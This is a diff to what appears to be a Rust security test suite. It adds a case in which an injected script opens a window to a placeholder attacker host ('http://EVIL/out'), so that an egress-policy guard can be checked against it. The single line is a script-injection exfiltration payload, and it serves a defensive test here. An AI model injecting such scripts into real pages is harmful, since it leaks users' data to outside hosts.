@@ -32,6 +32,17 @@ pub(crate) const CASES: &[Case] = &[
         attack: |world| Box::pin(every_way(world)),
     },
     Case {
+        id: "A13",
+        what: "a window that the page opens goes elsewhere",
+        guard: Guard::EgressPolicy,
+        attack: |world| {
+            Box::pin(out_by(
+                world,
+                "<script>window.open('http://EVIL/out')</script>",
+            ))
+        },
+    },
+    Case {
         id: "A11",
         what: "the app itself redirects elsewhere",
         guard: Guard::EgressPolicy,
